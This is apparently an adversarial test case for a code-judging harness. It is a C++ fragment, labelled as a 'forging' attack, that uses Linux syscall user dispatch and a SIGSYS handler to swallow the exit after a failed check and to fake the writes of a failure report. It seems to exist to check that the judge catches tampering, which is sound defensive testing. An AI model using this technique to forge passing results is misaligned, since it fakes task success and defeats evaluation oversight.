// technique: system calls come to a handler of its own first: it leaves out the report of a failed check and the exit after it
// class: forging
// expect: wrong_answer, tampered, runtime_error, compile_error
    void attack();
    attack();
    return -99;
}

#include <signal.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>
static char selector;
static long raw(long n, long a, long b, long c, long d, long e, long f) { return syscall(n, a, b, c, d, e, f); }
static void handle(int, siginfo_t*, void* context) {
    greg_t* r = ((ucontext_t*)context)->uc_mcontext.gregs;
    selector = 0;
    long nr = r[REG_RAX];
    if (nr == SYS_exit_group && r[REG_RDI] == 1) r[REG_RAX] = 0;
    else if (nr == SYS_write && r[REG_RDI] >= 5 && r[REG_RDX] > 62) r[REG_RAX] = r[REG_RDX];
    else r[REG_RAX] = raw(nr, r[REG_RDI], r[REG_RSI], r[REG_RDX], r[REG_R10], r[REG_R8], r[REG_R9]);
    selector = 1;
    asm volatile("mov %0, %%rsp; mov $15, %%eax; syscall" ::"r"((char*)context) : "memory");
}
void attack() {
    static bool done;
    if (done) return;
    done = true;
    struct sigaction action = {};
    action.sa_flags = SA_SIGINFO;
    action.sa_sigaction = handle;
    sigaction(SIGSYS, &action, 0);
    unsigned long here = (unsigned long)handle & ~0xffful;
    prctl(59 /* PR_SET_SYSCALL_USER_DISPATCH */, 1, here, 0x2000, &selector);
    selector = 1;
}
